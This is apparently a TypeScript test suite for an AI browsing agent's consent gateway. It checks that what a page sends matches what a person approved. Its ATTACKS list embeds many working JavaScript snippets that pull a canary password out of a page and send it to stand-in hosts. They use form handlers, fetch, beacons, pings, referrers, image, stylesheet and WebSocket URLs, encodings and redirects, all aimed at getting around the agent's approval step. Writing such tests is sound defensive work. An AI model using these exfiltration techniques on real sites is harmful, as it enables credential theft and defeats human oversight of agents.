// What is sent is what was approved, told by the attacker: pages that change, add, redirect, repeat or delay a request after
// a person has approved a form. The person here approves what the agent asks for and refuses what the page asks for.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openGateway } from '#gateway/main.ts';
import type { Gateway } from '#gateway/main.ts';
import type { ConsentCard } from '#gateway/protocol/views/consent.ts';
import type { GovernedTab } from '#gateway/tabs/governed-tab.ts';
import { keepBrowser, SHARED } from '#test/fixtures/kept-browser.ts';
import { startSite, type Site } from '#test/fixtures/site.ts';
import { need } from '#test/fixtures/tab.ts';
import { sampled } from '#test/fixtures/how-much.ts';

/** What stands in the page's credential field, and what the person saved for this site. */
const SECRET = 'hunter2-canary-7';
const SAVED = 'vault-canary-99';
const POLICY = `policy: 1
id: wire
revision: 1
extends: { id: phase38-default }
owner: tests
description: Sites of this machine; a person is asked before a stranger's, and for each credential.
rules:
  - id: within
    decision: ALLOW
    when: { capability: NAVIGATE_SAME_ORIGIN, addressClass: LOOPBACK, host: [account.test, collect.test, prize.test, api.test] }
    reason: Within a site.
  - id: named
    decision: ALLOW
    when: { capability: NAVIGATE_CROSS_ORIGIN, addressClass: LOOPBACK, host: account.test, namedByUser: true }
    reason: The person named it.
  - id: interface
    decision: ALLOW
    when: { capability: [NAVIGATE_CROSS_ORIGIN, FORM_SUBMIT_DATA], addressClass: LOOPBACK, host: api.test }
    reason: The site's own interface.
  - id: strangers
    decision: ESCALATE
    when: { capability: NAVIGATE_CROSS_ORIGIN, addressClass: LOOPBACK, host: [collect.test, prize.test] }
    reason: A person decides.
  - id: logins
    decision: ESCALATE
    when: { capability: FORM_SUBMIT_CREDENTIALS, executor: HEADLESS_CHROMIUM }
    reason: A person decides.
`;

type Arrived = {
  readonly host: string;
  readonly line: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
};
type Step = readonly [type: 'CLICK' | 'ENTER' | 'FILL' | 'HOVER', role: string, name: string, text?: string];
type Row = {
  readonly title: string;
  readonly html: string;
  /** Default: a click on `Send`. */
  readonly steps?: readonly Step[];
  /** What may arrive at the stranger's: `METHOD /path` and body, each once. Default: nothing but the approved form. */
  readonly may?: readonly string[];
  /** What the page does takes its time: it says when it has tried. */
  readonly late?: boolean;
};

let account: Site;
let canary: Server;
let port = 0;
let directory: string;
let gateway: Gateway;
const arrived: Arrived[] = [];
const cards: ConsentCard[] = [];

beforeAll(async () => {
  account = await startSite({}, '127.0.0.43');
  canary = createServer((request, response) => {
    let body = '';
    request.setEncoding('latin1').on('data', (chunk: string) => (body += chunk));
    request.on('end', () => {
      const { method, url = '', headers } = request;
      arrived.push({ host: headers.host ?? '', line: `${method} ${url}`, headers, body });
      const moved = /^\/(30[27])/u.exec(url)?.[1];
      const shared = { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*, x-note' };
      if (moved === undefined) response.writeHead(200, { 'content-type': 'text/html', ...shared });
      else response.writeHead(Number(moved), { location: 'http://prize.test/more' });
      response.end('<!doctype html><title>Taken</title><link rel="icon" href="data:,">taken');
    });
  });
  canary.on('upgrade', (request, socket) => {
    arrived.push({
      host: request.headers.host ?? '',
      line: `UPGRADE ${request.url}`,
      headers: request.headers,
      body: '',
    });
    socket.destroy();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.44', resolve));
  const address = canary.address();
  port = typeof address === 'object' && address !== null ? address.port : 0;
  directory = mkdtempSync(join(tmpdir(), 'ghost-wire-'));
  const file = join(directory, 'wire.yaml');
  writeFileSync(file, POLICY);
  gateway = await openGateway({
    dataDir: directory,
    config: SHARED,
    policy: ['default', file],
    consent: (card) => {
      cards.push(card);
      return Promise.resolve(card.startedBy === 'PAGE' ? 'DENY' : 'ALLOW_ONCE');
    },
    world: {
      hostMap: {
        'account.test': { address: '127.0.0.43', port: account.port },
        ...Object.fromEntries(
          ['collect.test', 'prize.test', 'api.test'].map((host) => [host, { address: '127.0.0.44', port }]),
        ),
      },
      sites: [],
      secrets: { 'login:account.test/password': { origin: 'http://account.test', value: SAVED } },
    },
  });
  await keepBrowser(gateway);
});
afterAll(async () => {
  await gateway.close();
  canary.closeAllConnections();
  canary.close();
  await account.close();
  rmSync(directory, { recursive: true, force: true });
});

const PASSWORD = `<input type="password" id="pw" value="${SECRET}" aria-label="Password">`;
const form = (attributes = '', more = ''): string =>
  `<form id="f" method="post" action="http://collect.test/take" ${attributes}>
    <input name="order" value="A-17" aria-label="Order">${more}<button>Send</button></form>`;
const script = (code: string): string => `<script>
  const done = () => fetch('/done').catch(() => 0);
  const pw = () => document.getElementById('pw')?.value ?? '${SECRET}';
  ${code}</script>`;
const APPROVED = ['POST /take order=A-17'];

let rows = 0;
async function run({ html, steps = [['CLICK', 'button', 'Send']], late = false }: Row): Promise<void> {
  rows += 1;
  const path = `/row-${rows}`;
  account.hits.length = 0;
  account.bodies.length = 0;
  arrived.length = 0;
  cards.length = 0;
  account.pages[path] =
    `<!doctype html><meta charset="utf-8"><title>Row</title><link rel="icon" href="data:,">${html}`;
  account.pages['/done'] = '';
  const tab = need(await gateway.openTab({ url: `http://account.test${path}` }));
  try {
    for (const step of steps) await take(tab, step);
    if (late) await expect.poll(() => account.hits, { timeout: 30_000 }).toContain('GET /done');
  } finally {
    await tab.close();
  }
}

async function take(tab: GovernedTab, [type, role, name, text = '']: Step): Promise<void> {
  const seen = need(await tab.snapshot());
  if (seen.kind !== 'SNAPSHOT') throw new Error('no snapshot');
  const ref = seen.snapshot.nodes.find((one) => one.role === role && one.name === name)?.ref ?? '';
  if (ref === '') throw new Error(`no ${role} “${name}”`);
  const act =
    type === 'ENTER'
      ? ({ type: 'PRESS', key: 'Enter', ref } as const)
      : type === 'FILL'
        ? ({ type, ref, text: text === 'SAVED' ? { secret: 'login:account.test/password' } : text } as const)
        : ({ type, ref } as const);
  await tab.act(act);
}

const lines = (): readonly string[] =>
  arrived.map(({ line, body }) => (body === '' ? line : `${line} ${body}`));
/** In any spelling that a page gets with a built-in. */
const SPELLINGS = [
  SAVED,
  SECRET,
  encodeURIComponent(SECRET),
  Buffer.from(SECRET).toString('base64').replace(/=+$/u, ''),
  Buffer.from(SECRET).toString('hex'),
  [...SECRET].toReversed().join(''),
];
const holdsSecret = (): readonly string[] =>
  arrived
    .filter((one) => SPELLINGS.some((spelling) => JSON.stringify(one).includes(spelling)))
    .map(({ line }) => line);

const ATTACKS: readonly Row[] = [
  {
    title: 'a submit handler puts the password into an approved field',
    html: PASSWORD + form() + script(`f.onsubmit = () => { f.order.value = pw() }`),
  },
  {
    title: 'a formdata handler adds a field',
    html: PASSWORD + form() + script(`f.addEventListener('formdata', (e) => e.formData.append('x', pw()))`),
  },
  {
    title: 'a formdata handler adds a field without any credential',
    html: form() + script(`f.addEventListener('formdata', (e) => e.formData.append('x', 'more'))`),
  },
  {
    title: 'a formdata handler takes a field away',
    html:
      form('', '<input name="limit" value="1">') +
      script(`f.addEventListener('formdata', (e) => e.formData.delete('limit'))`),
    may: ['POST /take order=A-17&limit=1'],
  },
  {
    title: 'a click handler adds a hidden field',
    html:
      PASSWORD +
      form() +
      script(`f.querySelector('button').onclick = () => {
        f.insertAdjacentHTML('beforeend', '<input type=hidden name=x>'); f.x.value = pw() }`),
  },
  {
    title: 'a click handler posts the password to the approved address by fetch',
    html:
      PASSWORD +
      form() +
      script(`f.querySelector('button').onclick = () => {
        fetch('http://collect.test/take', { method: 'POST', mode: 'no-cors', body: pw() }).catch(() => 0) }`),
  },
  {
    title: 'a click handler posts the password to the approved server by fetch',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = () => {
        fetch('http://collect.test/other', { method: 'POST', mode: 'no-cors', body: pw() }).catch(() => 0) }`),
  },
  {
    title: 'a beacon goes along',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = () => { navigator.sendBeacon('http://collect.test/take', pw()) }`),
  },
  {
    title: 'a request that outlives the page goes along',
    html:
      PASSWORD +
      form() +
      script(`addEventListener('pagehide', () => {
        fetch('http://collect.test/take', { method: 'POST', mode: 'no-cors', keepalive: true, body: pw() }).catch(() => 0) })`),
  },
  {
    title: 'a submit handler changes the address',
    html: PASSWORD + form() + script(`f.onsubmit = () => { f.action = 'http://collect.test/other' }`),
  },
  {
    title: 'a submit handler turns POST into GET',
    html: PASSWORD + form() + script(`f.onsubmit = () => { f.method = 'get'; f.order.value = pw() }`),
  },
  {
    title: 'a submit handler changes the encoding of the body',
    html: form() + script(`f.onsubmit = () => { f.enctype = 'text/plain' }`),
  },
  {
    title: 'a click handler submits by another button',
    html:
      PASSWORD +
      form('', `<button id="other" hidden name="x" formaction="http://collect.test/other">o</button>`) +
      script(`const other = document.getElementById('other');
        f.querySelector('button:not([hidden])').onclick = (e) => {
          e.preventDefault(); other.value = pw(); f.requestSubmit(other) }`),
  },
  {
    title: 'a click handler calls submit() after changing address and field',
    html:
      PASSWORD +
      form() +
      script(`f.querySelector('button').onclick = (e) => {
        e.preventDefault(); f.order.value = pw(); f.action = 'http://collect.test/other?x=' + pw(); f.submit() }`),
  },
  {
    title: 'the same form is sent twice',
    html:
      form() +
      `<iframe name="sink"></iframe>` +
      script(`f.onsubmit = () => {
        const copy = f.cloneNode(true); copy.target = 'sink'; document.body.append(copy); copy.submit() }`),
  },
  {
    title: 'a frame sends the same form in its place',
    html:
      form() +
      `<iframe srcdoc='<form id=g method=post action="http://collect.test/take"><input name=order value="A-17"></form>'></iframe>` +
      script(`f.onsubmit = (e) => { e.preventDefault(); frames[0].g.submit(); setTimeout(done, 400) }`),
    may: [],
    late: true,
  },
  {
    title: 'the form goes into a frame instead',
    html:
      PASSWORD +
      form() +
      `<iframe name="sink"></iframe>` +
      script(`f.onsubmit = () => { f.target = 'sink'; f.order.value = pw(); setTimeout(done, 400) }`),
    may: [],
    late: true,
  },
  {
    title: 'the submission is delayed beyond the act',
    html:
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault(); setTimeout(() => { done(); f.submit() }, 3500) }`),
    may: [],
    late: true,
  },
  {
    title: 'the submission is kept for the next act, which is another one',
    html:
      form() +
      `<button id="h" type="button">Harmless</button>` +
      script(
        `f.onsubmit = (e) => e.preventDefault(); document.getElementById('h').onclick = () => { f.submit() }`,
      ),
    steps: [
      ['CLICK', 'button', 'Send'],
      ['CLICK', 'button', 'Harmless'],
    ],
    may: [],
  },
  {
    title: 'a 307 sends the approved body on to a third site',
    html: form().replace('/take', '/307'),
    may: ['POST /307 order=A-17'],
  },
  {
    title: 'a 302 leads on to a third site',
    html: form().replace('/take', '/302'),
    may: ['POST /302 order=A-17'],
  },
  {
    title: 'a link changes its address when the button goes down',
    html:
      PASSWORD +
      `<a id="a" href="http://collect.test/page">Send</a>` +
      script(`document.getElementById('a').onmousedown = (e) => { e.target.href += '?' + pw() }`),
    steps: [['CLICK', 'link', 'Send']],
    may: ['GET /page'],
  },
  {
    title: 'a link pings',
    html: PASSWORD + `<a ping="http://collect.test/ping?${SECRET}" href="http://collect.test/page">Send</a>`,
    steps: [['CLICK', 'link', 'Send']],
    may: ['GET /page'],
  },
  {
    title: 'a link takes the address of its page along, and that holds the password',
    html:
      PASSWORD +
      `<a referrerpolicy="unsafe-url" href="http://collect.test/page" onclick="history.replaceState(0, '', '?' + pw())">Send</a>` +
      script(''),
    steps: [['CLICK', 'link', 'Send']],
    may: ['GET /page'],
  },
  {
    title: 'a form takes the address of its page along, and that holds the password',
    html:
      PASSWORD +
      `<meta name="referrer" content="unsafe-url">` +
      form() +
      script(`f.onsubmit = () => { history.replaceState(0, '', '?' + btoa(pw())) }`),
  },
  {
    title: 'a form by GET takes a field along that was not in it',
    html:
      PASSWORD +
      form().replace('method="post"', 'method="get"') +
      script(
        `f.onsubmit = () => { f.insertAdjacentHTML('beforeend', '<input type=hidden name=x value=' + pw() + '>') }`,
      ),
    may: ['GET /take?order=A-17'],
  },
  {
    title: 'Enter in a field sends other fields',
    html: PASSWORD + form() + script(`f.addEventListener('formdata', (e) => e.formData.set('order', pw()))`),
    steps: [['ENTER', 'textbox', 'Order']],
  },
  {
    title: 'a key handler submits before the key does',
    html:
      PASSWORD + form() + script(`f.order.onkeydown = () => { f.action += '?' + btoa(pw()); f.submit() }`),
    steps: [['ENTER', 'textbox', 'Order']],
  },
  {
    title: 'a button of no effect sends a form',
    html:
      PASSWORD +
      form('hidden') +
      `<button id="b" type="button">Menu</button>` +
      script(`document.getElementById('b').onclick = () => { f.order.value = pw(); f.submit() }`),
    steps: [['CLICK', 'button', 'Menu']],
    may: [],
  },
  {
    title: 'pointing at something sends a form',
    html:
      PASSWORD +
      form('hidden') +
      `<button id="b" type="button">Menu</button>` +
      script(`document.getElementById('b').onmouseenter = () => { f.order.value = pw(); f.submit() }`),
    steps: [['HOVER', 'button', 'Menu']],
    may: [],
  },
  {
    title: 'typing sends a form',
    html: PASSWORD + form() + script(`f.order.oninput = () => { f.order.value = pw(); f.submit() }`),
    steps: [['FILL', 'textbox', 'Order', 'B-18']],
    may: [],
  },
  {
    title: 'a picture button sends other fields',
    html:
      PASSWORD +
      `<form id="f" method="post" action="http://collect.test/take"><input name="order" value="A-17">
        <input type="image" alt="Send" width="40" height="20" name="at"></form>` +
      script(`f.onsubmit = () => { f.order.value = pw() }`),
  },
  {
    title: 'a form in a shadow tree sends other fields',
    html:
      `<div id="host"></div>` +
      script(`const root = document.getElementById('host').attachShadow({ mode: 'closed' });
        root.innerHTML = ${JSON.stringify(PASSWORD + form())};
        root.querySelector('form').onsubmit = () => { root.querySelector('[name=order]').value = root.getElementById('pw').value }`),
  },
  {
    title: 'a label leads to a button that sends other fields',
    html:
      PASSWORD +
      form('', '').replace('<button>Send</button>', '<button id="go" style="display:none">x</button>') +
      `<label for="go"><span role="button" tabindex="0">Send</span></label>` +
      script(`f.onsubmit = () => { f.order.value = pw() }`),
  },
  {
    title: 'a request carries the password in a header to a server that the policy allows',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        fetch('http://api.test/take', { headers: { 'x-note': pw() } }).catch(() => 0).then(done) }`),
    may: ['OPTIONS /take'],
    late: true,
  },
  {
    title: 'a request carries the password in the name of a header',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        fetch('http://api.test/take', { method: 'POST', headers: { ['x-' + pw()]: '1' } }).catch(() => 0).then(done) }`),
    may: [],
    late: true,
  },
  {
    title: 'a request carries the password as base64 to a server that the policy allows',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        fetch('http://api.test/take', { method: 'POST', mode: 'no-cors', body: 'd=' + btoa(pw()) }).catch(() => 0).then(done) }`),
    may: [],
    late: true,
  },
  {
    title: 'a picture’s address carries the password to a server that the policy allows',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        const one = new Image(); one.onload = one.onerror = done; one.src = 'http://api.test/' + pw() }`),
    may: [],
    late: true,
  },
  {
    title: 'a style sheet’s address carries the password, reversed, to a server that the policy allows',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        const one = document.createElement('link'); one.rel = 'stylesheet'; one.onload = one.onerror = done;
        one.href = 'http://api.test/' + [...pw()].reverse().join(''); document.head.append(one) }`),
    may: [],
    late: true,
  },
  {
    title: 'a WebSocket’s address carries the password to a server that the policy allows',
    html:
      PASSWORD +
      form() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        const one = new WebSocket('ws://api.test/' + pw()); one.onopen = one.onerror = done }`),
    may: [],
    late: true,
  },
  {
    title: 'a WebSocket is opened to the approved server',
    html: form() + script(`f.onsubmit = () => { new WebSocket('ws://collect.test/take') }`),
  },
  {
    title: 'a body that nobody can read goes to the approved address',
    html:
      form() +
      `<input type="file" id="u" hidden>` +
      script(`f.onsubmit = () => {
        f.enctype = 'multipart/form-data';
        const holder = new DataTransfer(); holder.items.add(new File([pw()], 'a.txt'));
        f.insertAdjacentHTML('beforeend', '<input type=file name=u hidden>'); f.u.files = holder.files }`),
  },
];

type Twin = {
  readonly title: string;
  readonly html: string;
  readonly steps?: readonly Step[];
  /** What arrives, at this site (`account`) or at the other one; nothing else that sends something does. */
  readonly sent: readonly string[];
  readonly prompts: number;
};
const LOGIN_FORM = (more = ''): string => `<form id="f" method="post" action="/login" ${more}>
  <input name="user" value="demo"><input type="hidden" name="csrf" value="c-1">
  <input type="password" name="p" aria-label="Password"><button name="go" value="1">Log in</button></form>`;
const LOG_IN: readonly Step[] = [
  ['FILL', 'textbox', 'Password', 'SAVED'],
  ['CLICK', 'button', 'Log in'],
];
const COLLECT = 'method="post" action="http://collect.test/take"';

const TWINS: readonly Twin[] = [
  {
    title: 'an ordinary log-in',
    html: LOGIN_FORM(),
    steps: LOG_IN,
    sent: [`POST /login user=demo&csrf=c-1&p=${SAVED}&go=1`],
    prompts: 1,
  },
  {
    title: 'a log-in by Enter',
    html: LOGIN_FORM(),
    steps: [
      ['FILL', 'textbox', 'Password', 'SAVED'],
      ['ENTER', 'textbox', 'Password'],
    ],
    sent: [`POST /login user=demo&csrf=c-1&p=${SAVED}&go=1`],
    prompts: 1,
  },
  {
    title: 'a log-in whose page looks at the form and sends it as it is',
    html:
      LOGIN_FORM() +
      script(
        `f.onsubmit = () => { f.checkValidity(); document.title = 'Logging in' }; f.onformdata = (e) => [...e.formData]`,
      ),
    steps: LOG_IN,
    sent: [`POST /login user=demo&csrf=c-1&p=${SAVED}&go=1`],
    prompts: 1,
  },
  {
    title: 'a log-in of a single-page application',
    html:
      LOGIN_FORM() +
      script(`f.onsubmit = (e) => { e.preventDefault();
        fetch('/login', { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf': 'c-1' },
          body: JSON.stringify({ user: 'demo', p: f.p.value }) }).then(() => { document.title = 'In' }) }`),
    steps: LOG_IN,
    sent: [`POST /login {"user":"demo","p":"${SAVED}"}`],
    prompts: 1,
  },
  {
    title: 'a search',
    html: `<form action="/find"><input name="q" aria-label="Search"><button>Find</button></form>`,
    steps: [
      ['FILL', 'textbox', 'Search', 'blue & green'],
      ['CLICK', 'button', 'Find'],
    ],
    sent: ['GET /find?q=blue+%26+green'],
    prompts: 0,
  },
  {
    title: 'a form whose page writes into it before it goes',
    html:
      `<form id="f" method="post" action="/order"><input name="n" value="1"><input type="hidden" name="at"><button>Send</button></form>` +
      script(`f.onsubmit = () => { f.at.value = 'now' }`),
    sent: ['POST /order n=1&at=now'],
    prompts: 0,
  },
  {
    title: 'a form with a clock in a hidden field',
    html:
      `<form id="f" method="post" action="/order"><input name="n" value="1"><input type="hidden" name="at"><button>Send</button></form>` +
      script(
        `let n = 0; f.onsubmit = () => clearInterval(clock); const clock = setInterval(() => { f.at.value = 'tick' + (n += 1) }, 5)`,
      ),
    sent: ['POST /order n=1&at=tick'],
    prompts: 0,
  },
  {
    title: 'a page that keeps a log of what is clicked',
    html:
      `<button type="button" id="b">Send</button>` +
      script(`document.getElementById('b').onclick = () => { navigator.sendBeacon('/log', 'clicked') }`),
    sent: ['POST /log clicked'],
    prompts: 0,
  },
  {
    title: 'a form for another site',
    html: form(),
    sent: ['POST /take order=A-17'],
    prompts: 1,
  },
  {
    title: 'a form for another site by GET, with a fragment',
    html: form().replace('method="post"', 'method="get"').replace('/take', '/take?old=1#part'),
    sent: ['GET /take?order=A-17'],
    prompts: 1,
  },
  {
    title: 'a form for another site by Enter',
    html: form(),
    steps: [['ENTER', 'textbox', 'Order']],
    sent: ['POST /take order=A-17'],
    prompts: 1,
  },
  {
    title: 'a form for another site with every kind of control',
    html: `<form ${COLLECT}><input name="a" value="1 + 1 = 2 &amp; ü €"><input type="hidden" name="h" value="x&#10;y">
      <textarea name="t">one
two</textarea><select name="s"><option value="s1">S</option><option selected>S2</option></select>
      <select name="m" multiple><option selected>m1</option><option selected disabled>m2</option><option selected>m3</option></select>
      <input type="checkbox" name="c" checked><input type="checkbox" name="d"><input type="radio" name="r" value="r1"><input type="radio" name="r" value="r2" checked>
      <input name="off" disabled value="no"><fieldset disabled><input name="off2" value="no"></fieldset>
      <input value="nameless"><input type="hidden" name="_charset_"><input name="dir" dirname="dir.d" value="q"><input type="number" name="n" value="7">
      <input type="range" name="g"><input type="color" name="k"><input type="button" name="b" value="b"><button type="reset" name="z" value="z">z</button>
      <button name="other" value="1">Other</button><button name="go" value="yes">Send</button></form>`,
    sent: [
      'POST /take a=1+%2B+1+%3D+2+%26+%C3%BC+%E2%82%AC&h=x%0D%0Ay&t=one%0D%0Atwo&s=S2&m=m1&m=m3&c=on&r=r2&_charset_=UTF-8&dir=q&dir.d=ltr&n=7&g=50&k=%23000000&go=yes',
    ],
    prompts: 1,
  },
  {
    title: 'a form for another site in several parts',
    html: `<form ${COLLECT} enctype="multipart/form-data"><input name='a"b' value="1&#9;ü"><textarea name="t">one
two</textarea><button name="go" value="">Send</button></form>`,
    sent: ['POST /take (parts)'],
    prompts: 1,
  },
  {
    title: 'a form for another site as plain text',
    html: `<form ${COLLECT} enctype="text/plain"><input name="a" value="1 ="><textarea name="t">one
two</textarea><button>Send</button></form>`,
    sent: ['POST /take a=1 =\r\nt=one\r\ntwo\r\n'],
    prompts: 1,
  },
  {
    title: 'a form for another site in another encoding',
    html: `<form ${COLLECT} accept-charset="windows-1252"><input name="ä" value="ü + é"><button>Send</button></form>`,
    sent: ['POST /take %E4=%FC+%2B+%E9'],
    prompts: 1,
  },
  {
    title: 'a form for another site by a picture',
    html: `<form ${COLLECT}><input name="a" value="1"><input type="image" name="at" alt="Send" width="40" height="20"><input name="b" value="2"></form>`,
    sent: ['POST /take a=1&at.x=20&at.y=10&b=2'],
    prompts: 1,
  },
  {
    title: 'a form for another site whose controls and button stand elsewhere',
    html: `<input form="g" name="a" value="1"><form id="g" ${COLLECT}><input name="b" value="2"></form>
      <button form="g" formaction="http://collect.test/there">Send</button>`,
    sent: ['POST /there a=1&b=2'],
    prompts: 1,
  },
  {
    title: 'a form for another site in a shadow tree',
    html:
      `<div id="host"></div>` +
      script(
        `document.getElementById('host').attachShadow({ mode: 'open' }).innerHTML = ${JSON.stringify(form())}`,
      ),
    sent: ['POST /take order=A-17'],
    prompts: 1,
  },
  {
    title: 'a form for another site in a frame, for the whole page',
    html: `<iframe srcdoc='<form target="_top" ${COLLECT}><input name="a" value="1"><button>Send</button></form>'></iframe>`,
    sent: ['POST /take a=1'],
    prompts: 1,
  },
  {
    title: 'a link to another site',
    html: `<a href="http://collect.test/page?x=1#y">Go</a>`,
    steps: [['CLICK', 'link', 'Go']],
    sent: ['GET /page?x=1'],
    prompts: 1,
  },
  {
    title: 'two forms one after the other',
    html: `<form method="post" action="/step-2"><input name="a" value="1"><button>Next</button></form>`,
    steps: [
      ['CLICK', 'button', 'Next'],
      ['CLICK', 'button', 'Buy'],
    ],
    sent: ['POST /step-2 a=1', 'POST /bought b=2'],
    prompts: 0,
  },
  {
    title: 'a file of the page’s own',
    html:
      `<form id="f" method="post" action="/upload" enctype="multipart/form-data"><input type="file" name="u" aria-label="File"><button>Send</button></form>` +
      script(
        `const held = new DataTransfer(); held.items.add(new File(['text'], 'a.txt')); f.u.files = held.files`,
      ),
    sent: ['POST /upload (parts)'],
    prompts: 0,
  },
];

describe('wire: what is sent is what was approved', () => {
  for (const row of sampled(5, ATTACKS))
    test(`${row.title}: nothing but what the card showed leaves`, async () => {
      await run(row);
      const may = [...(row.may ?? APPROVED)];
      for (const line of lines()) {
        const at = may.indexOf(line);
        expect(at, `${line} was not approved, or arrived twice`).not.toBe(-1);
        may.splice(at, 1);
      }
      expect(holdsSecret()).toEqual([]);
    });
});

describe('wire: harmless pages go on as they did', () => {
  for (const { sent, prompts, title, ...row } of sampled(5, TWINS))
    test(`${title} goes whole, with as many questions as before`, async () => {
      account.pages['/step-2'] =
        '<form method="post" action="/bought"><input name="b" value="2"><button>Buy</button></form>';
      await run({ title, ...row });
      const own = account.hits.map((hit, at) => `${hit} ${account.bodies[at] ?? ''}`.trim());
      const all = [...own.filter((hit) => !/^GET \/(?:row|done|favicon)/u.test(hit)), ...lines()].map(
        (line) => line.replace(/ -{6}WebKitFormBoundary.*/su, ' (parts)').replace(/tick\d+$/u, 'tick'),
      );
      expect(all).toEqual(sent);
      expect(cards).toHaveLength(prompts);
    });
});
